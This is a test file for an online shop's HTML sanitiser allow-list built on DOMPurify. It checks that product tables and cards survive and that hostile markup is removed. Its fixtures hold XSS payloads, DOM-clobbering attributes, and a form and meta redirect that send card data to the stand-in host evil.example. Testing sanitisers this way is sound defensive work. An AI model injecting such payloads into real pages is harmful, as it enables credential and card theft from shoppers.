import DOMPurify from 'dompurify';
import { sanitizeShopFragment, sanitizeShopHtml, SHOP_HTML_POLICY } from '../../../src/domain/htmlPolicy';

/** The allow-list for server HTML (issue 14): what the shop serves survives, nothing else does. */
describe('server HTML allow-list', () => {
  it('keeps what the shop serves: the description table and lists, hotspot cards, snippets', () => {
    const description =
      '<p>Pastiglie</p><h3>Informazioni sul prodotto</h3><table class="product-info"><tbody><tr><th scope="row">Produttore</th><td>TRW</td></tr></tbody></table>' +
      '<h3 class="engine-list-title">Motori compatibili</h3><ul class="engine-list"><li>Fiat<ul><li>Panda</li></ul></li></ul>';
    expect(sanitizeShopHtml(DOMPurify, description)).toBe(description);
    const card =
      '<article class="hotspot-product"><a href="/product-1-x.html"><img src="/data/gfx/products/1.svg" alt="" width="120" height="120" loading="lazy"><span class="hotspot-product__name">Disco</span></a></article>';
    expect(sanitizeShopHtml(DOMPurify, card)).toBe(card);
    expect(sanitizeShopHtml(DOMPurify, '<div class="widget-layer" data-device="pc">Spedizione</div>')).toBe('<div class="widget-layer" data-device="pc">Spedizione</div>');
  });

  it.each([
    ['a form and its controls', '<form action="https://evil.example/steal"><input name="card"><button formaction="https://evil.example">Paga</button><select><option>1</option></select><textarea></textarea></form>'],
    ['inline styles and style sheets', '<p style="position:fixed;inset:0">x</p><style>body{display:none}</style>'],
    ['id and name that shadow globals', '<img id="shopWidgets" name="dataLayer" src="/a.svg"><a id="cookie" name="location" href="/">x</a>'],
    ['scripts, event handlers and javascript: URLs', '<script>alert(1)</script><img src="x" onerror="alert(1)"><a href="javascript:alert(1)">x</a>'],
    ['frames, objects, SVG, MathML, base and meta', '<iframe src="/"></iframe><object data="/x"></object><svg><script>alert(1)</script></svg><math></math><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ['data attributes not named, aria and target', '<p data-x="1" aria-hidden="true"><a href="/" target="_blank">x</a></p>'],
  ])('removes %s', (_, html) => {
    const clean = sanitizeShopHtml(DOMPurify, html);
    expect(clean).not.toMatch(/<(form|input|button|select|option|textarea|style|script|iframe|object|svg|math|base|meta)\b/i);
    expect(clean).not.toMatch(/\s(style|id|name|on\w+|formaction|action|data-x|aria-hidden|target)=/i);
    expect(clean).not.toMatch(/javascript:/i);
  });

  it('gives a fragment with the same rules (the hotspot zones are split into cards)', () => {
    const fragment = sanitizeShopFragment(DOMPurify, '<article class="hotspot-product" id="x" style="color:red"><form><input></form>Disco</article>');
    expect(fragment.children).toHaveLength(1);
    expect(fragment.children[0].outerHTML).toBe('<article class="hotspot-product">Disco</article>');
  });

  it('the allow-list names no form tag, no style, id or name', () => {
    const tags: readonly string[] = SHOP_HTML_POLICY.ALLOWED_TAGS;
    const attributes: readonly string[] = SHOP_HTML_POLICY.ALLOWED_ATTR;
    for (const tag of ['form', 'input', 'button', 'select', 'textarea', 'style', 'script', 'iframe']) expect(tags).not.toContain(tag);
    for (const attribute of ['style', 'id', 'name']) expect(attributes).not.toContain(attribute);
  });
});
